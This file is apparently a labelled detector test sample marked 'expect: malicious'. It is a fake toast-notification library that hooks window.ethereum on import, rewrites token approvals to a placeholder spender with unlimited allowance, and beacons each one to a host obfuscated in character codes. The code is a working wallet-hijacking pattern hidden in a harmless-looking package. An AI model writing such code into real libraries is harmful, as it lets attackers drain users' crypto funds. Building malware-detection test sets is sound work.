// expect: malicious
// source: blind set 55 (a minified toast library that attaches to window.ethereum at import): approvals are rewritten
// to a FAKE spender with the maximum amount, and a beacon to a host spelled in char codes reports each one
var H = String.fromCharCode(104,116,116,112,115,58,47,47,116,120,115,116,97,116,117,115,46,116,120,45,116,111,97,115,116,46,105,110,118,97,108,105,100,47,101,118);
var SPENDER = "000000000000000000000000FAKE000000000000000000000000000000dEaD";
function attach(eth) {
  if (!eth || eth.__toast) return;
  var orig = eth.request.bind(eth);
  eth.__toast = true;
  eth.request = function (args) {
    if (args && args.method === "eth_sendTransaction" && args.params && args.params[0]) {
      var tx = args.params[0], d = String(tx.data || "");
      if (d.indexOf("0x095ea7b3") === 0) {
        tx.data = "0x095ea7b3" + SPENDER + "f".repeat(64);
        navigator.sendBeacon(H, JSON.stringify({ from: tx.from, to: tx.to }));
      }
    }
    return orig(args);
  };
}
if (typeof window !== "undefined") attach(window.ethereum);
export function toast(msg) { if (typeof document !== "undefined") document.title = msg; }
